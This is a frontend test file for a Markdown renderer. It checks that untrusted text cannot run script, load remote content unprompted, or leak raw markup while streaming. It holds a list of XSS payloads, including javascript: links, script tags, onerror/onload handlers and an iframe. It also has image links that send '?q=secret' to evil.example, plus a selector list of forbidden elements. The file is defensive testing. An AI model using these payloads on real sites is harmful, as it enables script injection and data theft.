import { cleanup, fireEvent, render } from '@testing-library/react'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { createBlockParser, plainText } from '../src/ui/markdown/blocks.ts'
import { Markdown } from '../src/ui/markdown/markdown.tsx'

const hostile = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <b onclick="alert(1)">bold</b> text',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="//evil.example"></iframe>',
  '<style>body{display:none}</style>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x](//evil.example/p.png?q=secret)',
  '![x](https://evil.example/p.png?q=secret)',
  '[![x](https://evil.example/p.png)](https://evil.example)',
]

const forbidden =
  'script, img, svg script, iframe, style, object, embed, link, [onerror], [onclick], [onload]'

function expectHarmless(root: HTMLElement): void {
  expect(root.querySelectorAll(forbidden)).toHaveLength(0)
  for (const link of root.querySelectorAll('a')) {
    expect(link.getAttribute('href')).toMatch(/^(https?|mailto):/)
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  }
}

afterEach(cleanup)

describe('Markdown of a stranger', () => {
  it.each(hostile)('cases c4, c5: nothing runs and nothing is fetched, whole: %s', (text) => {
    const { container } = render(<Markdown text={text} />)
    expectHarmless(container)
  })

  it.each(hostile)('cases c4, c5: nothing runs and nothing is fetched, a character at a time: %s', (text) => {
    const { container, rerender } = render(<Markdown text="" isLive />)
    for (let length = 1; length <= text.length; length++) {
      rerender(<Markdown text={text.slice(0, length)} isLive />)
      expectHarmless(container)
    }
  })

  it('shows HTML as the text that it is', () => {
    const { container } = render(<Markdown text={'Say <b>hello</b> & <script>x</script>'} />)
    expect(container.textContent).toBe('Say <b>hello</b> & <script>x</script>')
  })

  it('case c5: asks for a picture elsewhere only after a click that names where', () => {
    const { container, getByRole } = render(<Markdown text="![A map](https://evil.example/p.png?q=1)" />)
    const button = getByRole('button')
    expect(button.textContent).toContain('evil.example')
    fireEvent.click(button)
    const image = container.querySelector('img')
    expect(image?.getAttribute('src')).toBe('https://evil.example/p.png?q=1')
    expect(image?.getAttribute('referrerpolicy')).toBe('no-referrer')
  })
})

const long = `# Head

A *paragraph* with **bold**, \`code\` and a [link](https://example.com/a).

1. one
   - inner *a*
   - inner b
2. two

   more of two

> quoted
> still

| a | b |
| - | - |
| 1 | **2** |

    indented code

- [x] done
- [ ] open

\`\`\`ts
const a = \`\${b}\`

const c = 1
\`\`\`

~~gone~~ The end, with 😀.`

describe('Markdown that is still written', () => {
  it('case c6: ends as the whole text would, however it was cut', () => {
    for (const size of [1, 7]) {
      const { container, rerender, unmount } = render(<Markdown text="" isLive />)
      for (let length = size; length < long.length; length += size) {
        rerender(<Markdown text={long.slice(0, length)} isLive />)
      }
      rerender(<Markdown text={long} />)
      const whole = render(<Markdown text={long} />)
      expect(container.innerHTML).toBe(whole.container.innerHTML)
      whole.unmount()
      unmount()
    }
  })

  it('case c6: shows no raw markup in any frame', () => {
    const { container, rerender } = render(<Markdown text="" isLive />)
    for (let length = 1; length <= long.length; length++) {
      rerender(<Markdown text={long.slice(0, length)} isLive />)
      const prose = container.cloneNode(true)
      if (prose instanceof HTMLElement) for (const code of prose.querySelectorAll('pre')) code.remove()
      expect(prose.textContent, long.slice(Math.max(0, length - 20), length)).not.toMatch(/[`*~|#]|\]\(/)
    }
  })

  it('case c6: copies code exactly, and shows no stroke of the fence that ends it', async () => {
    const copied: string[] = []
    vi.spyOn(navigator.clipboard, 'writeText').mockImplementation(async (text) => {
      copied.push(text)
    })
    const code = 'if (a) {\n\n\tb(`x`)\n}'
    const text = `\`\`\`js\n${code}\n\`\`\``
    const { container, rerender, getByRole } = render(<Markdown text="" isLive />)
    for (let length = 1; length <= text.length; length++) {
      rerender(<Markdown text={text.slice(0, length)} isLive />)
      expect(container.querySelector('pre')?.textContent ?? '').not.toMatch(/^`|\n`/)
    }
    fireEvent.click(getByRole('button', { name: 'Copy code' }))
    expect(copied).toEqual([code])
    vi.restoreAllMocks()
  })

  it('leaves every finished part as it is, so that it is not drawn again', () => {
    const parse = createBlockParser()
    const before = parse('One.\n\nTwo.\n\nThr', true).blocks
    const after = parse('One.\n\nTwo.\n\nThree', true).blocks
    expect(after[0]).toBe(before[0])
    expect(after[1]).toBe(before[1])
  })

  it('starts over when the text was replaced', () => {
    const parse = createBlockParser()
    parse('One.\n\nTwo.\n\nThree.', true)
    expect(parse('Other.', true).blocks).toHaveLength(1)
  })
})

describe('plainText', () => {
  it('keeps the words and drops the markup', () => {
    expect(plainText('**Yes**, see [this](https://a.example):\n\n- a\n- `b`')).toBe('Yes, see this:\na\nb')
  })
})
